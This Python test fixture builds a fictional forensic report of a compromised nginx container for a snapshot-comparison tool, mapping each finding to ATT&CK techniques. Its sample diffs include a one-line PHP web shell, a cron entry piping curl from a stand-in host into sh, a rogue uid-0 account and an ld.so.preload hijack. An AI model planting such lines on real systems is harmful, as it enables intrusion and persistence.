"""A report made up for the tests of the page that could be true: an intruder came into a web server's container by an
upload, made a root shell, a cron job and a connection out."""

import base64

from harness.report_parts import BEGIN, DAY, MINUTE, at, digest, file, finish, other, reason


def small():
    """A web server's container that an intruder came into, and another beside it."""
    cron = reason("cron", "runs at times that cron decides", 2, "T1053.003")
    suid = reason("setuid-new", "setuid root, and was not in the image", 1, "T1548.001", aspect="right")
    running = reason("running", "process 4242 runs it", 1, "T1059", aspect="use")
    shell = reason("web-shell", "a script in a web root that runs commands", 1, "T1505.003", aspect="content")
    preload = reason("ld-preload", "every program loads what it names", 1, "T1574.006")
    hidden = reason("hidden-name", "a hidden name in a folder for temporary files", 3, "T1564.001", aspect="name")
    times = reason("times", "its content is younger than its modification time", 3, "T1070.006", aspect="times")
    passwd = reason("accounts", "an account with uid 0 that was not there", 1, "T1136.001", aspect="account")
    key = reason("ssh-key", "who has the key can log in", 2, "T1098.004")
    socket = reason(
        "beacon", "connected to an address outside, by a program that is not of the image", 1, "T1071", aspect="use"
    )
    package = reason("package", "belongs to coreutils 9.1-1, which has another digest", 2, "T1554", aspect="package")
    before = {
        "pid": 4242,
        "comm": "nginx",
        "exe": "/usr/sbin/nginx",
        "uid": [33, 33, 33, 33],
        "caps": {"eff": "0000000000000000"},
    }
    after = {
        "pid": 4242,
        "comm": "kworker/0:1",
        "exe": "/tmp/.x (deleted)",
        "uid": [0, 0, 0, 0],
        "caps": {"eff": "000001ffffffffff"},
    }
    findings = [
        file(
            "/tmp/.x", "added", 1, 131, [suid, running, hidden], size=912384, mode="-rwsr-xr-x", package="of no package"
        ),
        file("/var/www/html/uploads/avatar.php", "added", 1, 122, [shell, times], text=0, owner="33:33"),
        file("/etc/ld.so.preload", "added", 1, 133, [preload], text=1, size=24),
        file("/etc/passwd", "modified", 1, 134, [passwd], text=2, details=["content", "size 922 → 961"]),
        other(
            "process",
            "added",
            "4242 /tmp/.x",
            1,
            [running, socket],
            pid=4242,
            before=before,
            after=after,
            events=["respawned"],
        ),
        other(
            "socket",
            "added",
            "tcp 10.0.0.2:51724 → 203.0.113.9:4444",
            1,
            [socket],
            after={"protocol": "tcp", "state": "established"},
        ),
        file("/etc/cron.d/logrotate", "added", 2, 135, [cron], text=3, size=61),
        file("/root/.ssh/authorized_keys", "modified", 2, 136, [key], text=4),
        file("/bin/ls", "modified", 2, 138, [package, times], size=151344, size_before=138208, mode="-rwxr-xr-x"),
        other("user", "added", "toor (uid 0)", 2, [passwd], after={"name": "toor", "uid": 0, "shell": "/bin/bash"}),
        file(
            "/usr/lib/libselinux-ext.so",
            "added",
            2,
            132,
            [reason("library", "a library in no package", 2, "T1574.006")],
        ),
        file("/etc/nginx/nginx.conf", "modified", 3, 20, [reason("config", "configuration of a service", 3)], text=5),
        file("/var/log/nginx/access.log", "removed", 3, 140, [reason("log", "a log that is gone", 3, "T1070.002")]),
        other(
            "mount",
            "added",
            "/mnt/host",
            3,
            [reason("mount", "a mount that the image does not have", 3, "T1611")],
            after={"fstype": "ext4"},
        ),
        other(
            "environment",
            "modified",
            "PATH of process 1",
            3,
            [reason("path", "the search path begins with /tmp", 3, "T1574.007")],
            before={"PATH": "/usr/sbin:/usr/bin"},
            after={"PATH": "/tmp:/usr/sbin:/usr/bin"},
        ),
        file(
            "/opt/b\\x1b[31m\\u{202e}gpj",
            "added",
            3,
            137,
            [hidden],
            subject_b64=base64.b64encode(b"/opt/b\x1b[31m\xe2\x80\xaegpj").decode(),
        ),
        file("/srv/moved-to-here", "moved", 4, 61, [reason("moved", "was elsewhere", 4)], **{"from": "/srv/was/there"}),
        file("/etc/mtab", "unknown", 4, 2, details=["A could not read it: permission denied"]),
        *(file(f"/var/cache/apt/pkg{n}.bin", "added", 5, -40 + n) for n in range(40)),
        *(file(f"/usr/share/doc/package{n}/copyright", "metadata", 5, -DAY * 90 / MINUTE + n * 7) for n in range(60)),
        *(file(f"/var/lib/app/state/{n % 7}/{n}.json", "modified", 5, n * 3.1, c=1, by="diff") for n in range(50)),
        file(
            "/app/config/settings.py",
            "modified",
            3,
            64,
            [reason("config", "configuration of a service", 3)],
            c=1,
            by="diff",
            text=6,
        ),
    ]
    for f, finding in enumerate(findings):
        finding["order"] = f
    findings.sort(key=lambda finding: finding["rank"])
    where = {finding.pop("order"): f for f, finding in enumerate(findings)}
    names = {finding["subject"]: f for f, finding in enumerate(findings)}

    processes = small_processes(names)
    texts = small_texts(where, names)
    story = [
        ("An upload became a script that runs commands", 122, 1, ["/var/www/html/uploads/avatar.php"]),
        ("A setuid program appeared in /tmp and runs as process 4242", 131, 1, ["/tmp/.x", "4242 /tmp/.x"]),
        ("Every program loads a library of no package", 133, 1, ["/etc/ld.so.preload", "/usr/lib/libselinux-ext.so"]),
        ("An account with uid 0 was added", 134, 1, ["/etc/passwd", "toor (uid 0)"]),
        ("A cron job was added", 135, 2, ["/etc/cron.d/logrotate"]),
        ("A key that can log in as root was added", 136, 2, ["/root/.ssh/authorized_keys"]),
        ("/bin/ls is not what its package has", 138, 2, ["/bin/ls"]),
        ("The web server's log is gone", 140, 3, ["/var/log/nginx/access.log"]),
        ("Process 4242 is connected to 203.0.113.9:4444", None, 1, ["tcp 10.0.0.2:51724 → 203.0.113.9:4444"]),
    ]
    report = {
        "summary": {
            "title": "web, before and after",
            "quiet": 12,
            "timeline_left_out": 1234,
            "story": [
                {
                    "text": text,
                    "rank": rank,
                    "fs": [names[one] for one in fs],
                    **({} if m is None else at(t=BEGIN + m * MINUTE)),
                    "techniques": sorted(
                        {t for one in fs for r in findings[names[one]]["reasons"] for t in r["techniques"]}
                    ),
                }
                for text, m, rank, fs in story
            ],
        },
        "findings": findings,
        "processes": processes,
        "texts": texts,
        "mounts": [
            {
                "c": 0,
                "path": "/",
                "fstype": "overlay",
                "source": "overlay",
                "options": "rw,relatime",
                "decision": "walked",
                "change": "same",
            },
            {
                "c": 0,
                "path": "/proc",
                "fstype": "proc",
                "source": "proc",
                "options": "rw,nosuid",
                "decision": "skipped",
                "reason": "a kernel file system",
                "change": "same",
            },
            {
                "c": 0,
                "path": "/mnt/host",
                "fstype": "ext4",
                "source": "/dev/sda1",
                "options": "rw",
                "decision": "walked",
                "change": "added",
                "fs": [names["/mnt/host"]],
            },
            {
                "c": 1,
                "path": "/",
                "fstype": "overlay",
                "source": "overlay",
                "options": "rw,relatime",
                "decision": "walked",
                "change": "same",
            },
        ],
        "sockets": [
            {
                "c": 0,
                "netns": "4026531840",
                "protocol": "tcp",
                "local": "0.0.0.0:80",
                "remote": "0.0.0.0:0",
                "state": "listen",
                "pid": 1,
                "process": "nginx",
                "change": "same",
            },
            {
                "c": 0,
                "netns": "4026531840",
                "protocol": "tcp",
                "local": "10.0.0.2:51724",
                "remote": "203.0.113.9:4444",
                "state": "established",
                "pid": 4242,
                "process": "kworker/0:1",
                "change": "added",
                "fs": [names["tcp 10.0.0.2:51724 → 203.0.113.9:4444"]],
            },
            {
                "c": 1,
                "netns": "4026532001",
                "protocol": "tcp",
                "local": "127.0.0.1:8000",
                "remote": "0.0.0.0:0",
                "state": "listen",
                "pid": 900,
                "process": "gunicorn",
                "change": "same",
            },
        ],
        "ledger": {
            "sides": [
                {"side": "A", "outcomes": {"ok": 3212}, "gaps": []},
                {
                    "side": "B",
                    "outcomes": {"ok": 3291, "changed": 2, "denied": 1, "vanished": 1},
                    "gaps": [
                        {
                            "kind": "file",
                            "outcome": "changed",
                            "subject": "/var/log/nginx/error.log",
                            "reason": "size moved while it was read",
                            "c": 0,
                        },
                        {
                            "kind": "process",
                            "outcome": "vanished",
                            "subject": "4310/maps",
                            "reason": "the process ended",
                            "c": 0,
                        },
                        {
                            "kind": "file",
                            "outcome": "denied",
                            "subject": "/etc/mtab",
                            "reason": "permission denied",
                            "c": 0,
                        },
                    ],
                },
            ]
        },
        "verification": [
            {
                "side": "A",
                "verdict": "AUTHENTIC",
                "seal_sha256": digest("seal"),
                "sentence": "The seal is signed by a key that is trusted, and every member has its digest.",
                "signatures": ["Ed25519 by SHA256:k3yk3yk3y, trusted as analyst@example.org"],
                "time_stamps": ["2026-11-24T09:50:11Z by Example TSA"],
                "custody": [
                    {
                        "t_text": "2026-11-24T09:51:00Z",
                        "event": "collected",
                        "who": "m.weber",
                        "where": "host web-1",
                        "why": "case 2026-118",
                        "hash_state": "as now",
                    },
                    {
                        "t_text": "2026-11-25T08:12:00Z",
                        "event": "received",
                        "who": "i.okafor",
                        "where": "laboratory",
                        "why": "analysis",
                        "hash_state": "as now",
                    },
                ],
                "custody_verdict": "WHOLE",
            },
            {
                "side": "B",
                "verdict": "CONSISTENT-UNSIGNED",
                "sentence": "Every member has its digest; no signature was given.",
                "faults": [],
                "custody": [],
            },
        ],
    }
    return finish(report)


def small_processes(names):
    base = BEGIN - 3 * DAY
    listen = ["tcp 0.0.0.0:80 listen"]
    out = ["tcp 10.0.0.2:51724 → 203.0.113.9:4444 established"]
    return [
        {
            "c": 0,
            "pid": 1,
            "ppid": 0,
            "name": "nginx",
            "exe": "/usr/sbin/nginx",
            "cmdline": "nginx: master process nginx -g 'daemon off;'",
            "uid": 0,
            **at(t_start=base),
            "change": "same",
            "rank": 5,
            "sockets": listen,
            "outcome": "ok",
        },
        {
            "c": 0,
            "pid": 30,
            "ppid": 1,
            "name": "nginx",
            "exe": "/usr/sbin/nginx",
            "cmdline": "nginx: worker process",
            "uid": 33,
            **at(t_start=base + 900),
            "change": "same",
            "rank": 5,
            "outcome": "ok",
        },
        {
            "c": 0,
            "pid": 31,
            "ppid": 1,
            "name": "nginx",
            "exe": "/usr/sbin/nginx",
            "cmdline": "nginx: worker process",
            "uid": 33,
            **at(t_start=base + 901),
            "change": "ended",
            "rank": 4,
            "outcome": "ok",
        },
        {
            "c": 0,
            "pid": 44,
            "ppid": 1,
            "name": "php-fpm",
            "exe": "/usr/sbin/php-fpm8.2",
            "cmdline": "php-fpm: pool www",
            "uid": 33,
            **at(t_start=base + 2000),
            "change": "same",
            "rank": 4,
            "outcome": "ok",
        },
        {
            "c": 0,
            "pid": 4200,
            "ppid": 44,
            "name": "sh",
            "exe": "/bin/dash",
            "cmdline": "sh -c /tmp/.x",
            "uid": 33,
            **at(t_start=BEGIN + 131.2 * MINUTE),
            "change": "started",
            "rank": 2,
            "outcome": "ok",
        },
        {
            "c": 0,
            "pid": 4242,
            "ppid": 4200,
            "name": "kworker/0:1",
            "exe": "/tmp/.x",
            "cmdline": "[kworker/0:1]",
            "uid": 0,
            **at(t_start=BEGIN + 131.5 * MINUTE),
            "change": "started",
            "rank": 1,
            "fs": [names["/tmp/.x"], names["4242 /tmp/.x"]],
            "sockets": out,
            "outcome": "ok",
        },
        {
            "c": 1,
            "pid": 900,
            "ppid": 0,
            "name": "gunicorn",
            "exe": "/usr/bin/python3.11",
            "cmdline": "python3 -m gunicorn app:app",
            "uid": 1000,
            **at(t_start=base + 60000),
            "change": "same",
            "rank": 5,
            "sockets": ["tcp 127.0.0.1:8000 listen"],
            "outcome": "ok",
        },
        {
            "c": 1,
            "pid": 912,
            "ppid": 900,
            "name": "gunicorn",
            "exe": "/usr/bin/python3.11",
            "cmdline": "python3 -m gunicorn app:app",
            "uid": 1000,
            **at(t_start=BEGIN + 66 * MINUTE),
            "change": "respawned",
            "rank": 4,
            "outcome": "ok",
        },
    ]


def small_texts(where, names):
    def hunk(before_line, after_line, *lines):
        return {"before_line": before_line, "after_line": after_line, "lines": [[line[0], line[1:]] for line in lines]}

    def of(subject, *hunks, **more):
        return {"f": names[subject], "before_name": "A", "after_name": "B", "hunks": list(hunks), **more}

    texts = [
        of("/var/www/html/uploads/avatar.php", hunk(0, 1, "+GIF89a", "+<?php system($_REQUEST['c']); ?>")),
        of("/etc/ld.so.preload", hunk(0, 1, "+/usr/lib/libselinux-ext.so")),
        of(
            "/etc/passwd",
            hunk(
                16,
                16,
                " gnats:x:41:41:Gnats:/var/lib/gnats:/usr/sbin/nologin",
                " nobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin",
                " _apt:x:42:65534::/nonexistent:/usr/sbin/nologin",
                "+toor:x:0:0::/root:/bin/bash",
            ),
        ),
        of("/etc/cron.d/logrotate", hunk(0, 1, "+*/5 * * * * root curl -fsS http://203.0.113.9/u | sh")),
        of("/root/.ssh/authorized_keys", why_not="content of A was not captured", hunks=[]) | {"hunks": []},
        of(
            "/etc/nginx/nginx.conf",
            hunk(
                10,
                10,
                " http {",
                "-    client_max_body_size 1m;",
                "+    client_max_body_size 64m;",
                "     sendfile on;",
                "     tcp_nopush on;",
            ),
            hunk(40, 40, "     server {", "+        location /uploads { try_files $uri =404; }", "         listen 80;"),
            cut=True,
        ),
        of("/app/config/settings.py", hunk(3, 3, " import os", "-DEBUG = False", "+DEBUG = True", " ")),
    ]
    assert where
    return texts
